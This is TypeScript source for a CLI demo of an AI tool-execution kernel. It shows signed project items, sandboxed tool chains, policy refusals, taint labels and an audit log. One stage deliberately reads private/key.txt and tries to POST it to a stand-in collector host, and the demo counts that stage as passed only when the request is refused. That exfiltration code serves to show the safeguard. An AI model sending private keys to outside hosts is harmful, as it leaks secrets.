// `demo`: the kernel at work on a small project, copied to a temporary folder with a key of its own.
// Everything is real: the files, the signatures, the refusals, the HTTP stream on loopback.
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getOwn, type Json, type JsonObject, type Outcome, plainText } from '../../base/index.ts';
import { makeValue } from '../../flow/index.ts';
import { BUNDLE, createRuntime, type Runtime } from '../../runtime.ts';
import { type CommandRun, EXIT } from '../command.ts';
import { signFiles } from '../own-key.ts';
import { type Terminal, visible } from '../terminal.ts';

interface Stage {
  runtime: Runtime;
  terminal: Terminal;
  /** Where the loopback server sends its events. */
  events: string;
  sandboxed: boolean;
}

const SIGNED = [
  '.ai/directives/docs/summarise_notes.md',
  '.ai/directives/docs/answer_mail.md',
  '.ai/tools/text/word_stats.yaml',
  '.ai/tools/text/headline_words.yaml',
  '.ai/tools/sinks/tally_sink.yaml',
  '.ai/tools/demo/events.yaml',
  '.ai/policy.yaml',
];

/** Twenty events, as a provider would stream them. */
async function serveEvents(): Promise<{ server: Server; url: string }> {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    for (let count = 1; count <= 20; count++) {
      const name = count % 5 === 0 ? 'tick' : 'delta';
      response.write(`event: ${name}\ndata: {"n":${count}}\n\n`);
    }
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/events` };
}

function heading(terminal: Terminal, title: string, why: string): void {
  terminal.out(`\n${terminal.paint('bold', `# ${title}`)}`);
  terminal.out(terminal.paint('dim', why));
}

async function execute(
  { runtime, terminal }: Stage,
  id: string,
  parameters: JsonObject,
  show: (output: Json) => string,
): Promise<Outcome<Json>> {
  const words = Object.entries(parameters).map(
    ([name, value]) => `${name}=${JSON.stringify(value)}`,
  );
  terminal.out(
    `${terminal.paint('blue', '$')} km exec tool ${id} ${visible(words.join(' ')).slice(0, 100)}`,
  );
  const done = await runtime.call(
    'execute',
    { item_type: 'tool', item_id: id, parameters },
    { surface: 'cli', name: 'demo' },
  );
  if (done.ok) terminal.out(`  ${visible(show(done.output)).replaceAll('\n', '\n  ')}`);
  else
    terminal.out(
      `  ${terminal.paint('red', done.error.code)}: ${visible(done.error.detail.message)}`,
    );
  return done;
}

const field = (value: Json, name: string): string => JSON.stringify(getOwn(value, name) ?? null);

function checkItems({ runtime, terminal }: Stage): boolean {
  heading(
    terminal,
    'check',
    'Reading a project runs nothing in it. Every mistake is found before a thread starts.',
  );
  const problems = runtime.library.check().filter(({ severity }) => severity === 'error');
  terminal.diagnostics(problems);
  terminal.out(`  ${runtime.library.all().length} items, ${problems.length} errors`);
  const counts = new Map<string, number>();
  for (const { signature } of runtime.library.all()) {
    counts.set(signature.state, (counts.get(signature.state) ?? 0) + 1);
  }
  terminal.out(
    `  signatures: ${[...counts].map(([state, count]) => `${count} ${state}`).join(', ')}`,
  );
  return problems.length === 0;
}

async function search({ runtime, terminal }: Stage): Promise<boolean> {
  heading(
    terminal,
    'search',
    'Directives, tools and knowledge of the project, the user and the bundle, ranked.',
  );
  terminal.out(`${terminal.paint('blue', '$')} km search "frequent words"`);
  const found = await runtime.call(
    'search',
    { query: 'frequent words', limit: 3 },
    { surface: 'cli' },
  );
  const items = found.ok ? ((getOwn(found.output, 'items') ?? []) as JsonObject[]) : [];
  for (const item of items)
    terminal.out(`  ${plainText(item.item_id)}: ${visible(plainText(item.summary))}`);
  return items.length > 0;
}

async function chain(stage: Stage): Promise<boolean> {
  const { terminal, runtime } = stage;
  heading(
    terminal,
    'a chain',
    'text/headline_words -> text/word_stats -> runtime/node -> subprocess: code of the project, in a sandboxed child.',
  );
  const text = readFileSync(join(runtime.project, 'notes/release.md'), 'utf8');
  const done = await execute(
    stage,
    'text/headline_words',
    { text },
    (output) => `frequent: ${field(output, 'frequent')}\nchain: ${field(output, 'chain')}`,
  );
  if (done.ok || stage.sandboxed) return done.ok;
  terminal.out('  (refused because no sandbox is installed here; `km doctor` says how to get one)');
  return done.error.code === 'sandbox_missing';
}

async function denied(stage: Stage): Promise<boolean> {
  const { terminal } = stage;
  heading(
    terminal,
    'denied',
    "Items change through `execute` alone; the project's own policy denies pushing.",
  );
  const write = await execute(
    stage,
    'fs/write_file',
    { path: '.ai/tools/evil.yaml', content: 'x' },
    String,
  );
  const push = await execute(stage, 'git/push', { branch: 'main' }, String);
  return !write.ok && !push.ok;
}

async function labels({ runtime, terminal }: Stage): Promise<boolean> {
  heading(
    terminal,
    'labels',
    'What was read from private/ keeps that label, also inside another value. The policy keeps it here.',
  );
  const caller = runtime.caller({ surface: 'cli', name: 'demo' });
  const read = await runtime.kernel.execute(
    { item_type: 'tool', item_id: 'fs/read_file', parameters: { path: 'private/key.txt' } },
    caller,
  );
  if (!read.ok) return false;
  terminal.out(`  read private/key.txt: ${read.output.meta.descriptor.taint.join(' ')}`);
  const url = 'https://collector.example/';
  const body = makeValue('the key, in other words', { descriptor: read.output.meta.descriptor });
  const sent = await runtime.kernel.execute(
    {
      item_type: 'tool',
      item_id: 'http/request',
      parameters: { url, method: 'POST', body: 'the key, in other words' },
      values: { body },
    },
    caller,
  );
  terminal.out(
    `  send it to ${url}: ${sent.ok ? 'sent' : `${terminal.paint('red', sent.error.code)}: ${visible(sent.error.detail.message)}`}`,
  );
  return !sent.ok && sent.error.code === 'permission_denied';
}

async function stream(stage: Stage): Promise<boolean> {
  const { terminal, runtime, events } = stage;
  heading(
    terminal,
    'a stream into three sinks',
    'Server-sent events over HTTP to the answer, a file and a sink of the project.',
  );
  const done = await execute(
    stage,
    'demo/events',
    { url: events },
    (output) =>
      `events: ${field(output, 'stream_events_count')}\nsinks: ${field(output, 'stream_destinations')}`,
  );
  if (done.ok) {
    const lines = readFileSync(join(runtime.project, 'out/events.jsonl'), 'utf8')
      .trim()
      .split('\n');
    terminal.out(`  out/events.jsonl has ${lines.length} lines`);
  }
  return done.ok || (!stage.sandboxed && done.error.code === 'sandbox_missing');
}

function showAudit({ runtime, terminal }: Stage): boolean {
  heading(terminal, 'audit', 'Every call and every refusal is one row.');
  const rows = runtime.audit.read(20);
  if (!rows.ok) return false;
  for (const { decision, operation } of rows.output)
    terminal.out(`  ${decision.padEnd(8)} ${visible(operation)}`);
  return rows.output.some(({ decision }) => decision === 'denied');
}

/** A copy of the demo project, signed with a key made for it, and a user policy for loopback. */
async function prepare(base: string, terminal: Terminal): Promise<Outcome<Runtime>> {
  const [project, home] = [join(base, 'project'), join(base, 'home')];
  cpSync(join(BUNDLE, 'demo'), project, { recursive: true });
  mkdirSync(home);
  writeFileSync(join(home, 'policy.yaml'), 'hosts: ["127.0.0.1"]\n', { mode: 0o600 });
  const env = { ...terminal.env, KERNMANTLE_HOME: home };
  const opened = await createRuntime({ project, cwd: project, env });
  if (!opened.ok) return opened;
  const runtime = opened.output;
  const signed = signFiles(
    runtime,
    SIGNED.map((file) => join(project, file)),
  );
  if (!signed.ok) return signed;
  await runtime.close();
  return await createRuntime({ project, cwd: project, env });
}

export const run: CommandRun = async ({ terminal }) => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'kernmantle-demo-')));
  const { server, url } = await serveEvents();
  try {
    const runtime = await prepare(base, terminal);
    if (!runtime.ok) return terminal.finish(runtime, () => {});
    const { kind } = await runtime.output.sandbox();
    const stage: Stage = {
      runtime: runtime.output,
      terminal,
      events: url,
      sandboxed: kind !== 'none',
    };
    terminal.out(
      'A small project, copied to a temporary folder. No key, no network beyond this machine.',
    );
    const results = [
      checkItems(stage),
      await search(stage),
      await chain(stage),
      await denied(stage),
      await labels(stage),
      await stream(stage),
      showAudit(stage),
    ];
    await runtime.output.close();
    const good = results.every(Boolean);
    terminal.out(
      `\n${good ? 'Next: `km init` in a folder of yours, then `km check` and `km search`.' : terminal.paint('red', 'something did not go as it should; please report the output above')}`,
    );
    return good ? EXIT.done : EXIT.failed;
  } finally {
    server.close();
    rmSync(base, { recursive: true, force: true });
  }
};
